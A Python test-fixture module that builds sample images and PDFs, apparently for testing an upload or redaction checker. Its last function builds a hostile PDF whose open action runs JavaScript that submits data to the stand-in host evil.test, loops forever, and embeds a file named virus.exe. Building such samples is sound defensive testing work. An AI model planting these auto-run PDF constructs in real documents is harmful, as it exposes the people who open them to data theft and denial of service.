"""Files as people, and those who mean harm, send them."""

import io
from typing import Any

from PIL import Image


def jpeg(size: tuple[int, int] = (600, 400), **options: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "beige").save(made, "JPEG", **options)
    return made.getvalue()


def png(size: tuple[int, int] = (600, 400), mode: str = "RGBA") -> bytes:
    made = io.BytesIO()
    Image.new(mode, size).save(made, "PNG")
    return made.getvalue()


def pdf(
    pages: int = 1, *, extra: bytes = b"", catalog: bytes = b"", text: str = "Secret under a bar"
) -> bytes:
    """A PDF of so many pages with a text below a black bar; `extra` objects, `catalog` entries."""
    content = f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET 0 0 0 rg 60 690 400 40 re f".encode()
    kids = b" ".join(f"{10 + number} 0 R".encode() for number in range(pages))
    objects = [
        b"1 0 obj <</Type /Catalog /Pages 2 0 R " + catalog + b">> endobj",
        b"2 0 obj <</Type /Pages /Count %d /Kids [%s]>> endobj" % (pages, kids),
        b"3 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>> endobj",
        b"4 0 obj <</Length %d>> stream\n%s\nendstream endobj" % (len(content), content),
        *[
            b"%d 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources <</Font <</F1 3 0 R>>>>>> endobj" % (10 + number)
            for number in range(pages)
        ],
        extra,
    ]
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <</Root 1 0 R>>\n%%EOF"


def pdf_with_scripts() -> bytes:
    """Runs JavaScript when opened, launches a program, and carries a file."""
    catalog = (
        b"/OpenAction <</S /JavaScript /JS (this.submitForm\\('http://evil.test'\\))>> "
        b"/Names <</JavaScript <</Names [(x) 90 0 R]>> /EmbeddedFiles <</Names [(virus.exe) 91 0 R]>>>> "
    )
    extra = (
        b"90 0 obj <</S /JavaScript /JS (while\\(true\\){})>> endobj\n"
        b"91 0 obj <</Type /Filespec /F (virus.exe)>> endobj"
    )
    return pdf(catalog=catalog, extra=extra)
